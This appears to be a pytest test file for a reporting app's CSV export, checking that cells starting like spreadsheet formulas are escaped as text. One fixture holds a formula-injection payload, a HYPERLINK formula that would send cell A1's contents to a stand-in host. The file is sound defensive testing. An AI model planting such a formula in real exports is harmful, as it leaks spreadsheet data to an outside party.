"""The statistics CSV opens in a spreadsheet: no cell of it runs as a formula."""
import csv
import io

import pytest

from app.accounts.rules import Role
from app.reports.statistics import spreadsheet_safe
from tests.reports.factories import ReportApi, make_unit, make_user, payload

FORMULA_UNIT = '=HYPERLINK("http://example.test/?d="&A1;"Klicka")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+46701234567", "'+46701234567"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Hemvård Nord", "Hemvård Nord"), ("", ""), (2.5, 2.5), ("a=b", "a=b"),
])
def test_a_cell_starting_like_a_formula_is_written_as_text(value, written):
    assert spreadsheet_safe(value) == written


def test_a_unit_named_like_a_formula_is_exported_as_text(app, client):
    with app.app_context():
        make_unit(FORMULA_UNIT)
        make_user("usk.formel", Role.STAFF, FORMULA_UNIT)
    assert ReportApi(app.test_client()).login("usk.formel").send(payload()).status_code == 201
    exported = ReportApi(client).login("kvalitet").get("/statistik/export.csv").get_data(as_text=True)
    units = {row[1] for row in list(csv.reader(io.StringIO(exported)))[1:]}
    assert "'" + FORMULA_UNIT in units
    assert not any(unit.startswith(("=", "+", "-", "@", "\t", "\r")) for unit in units)
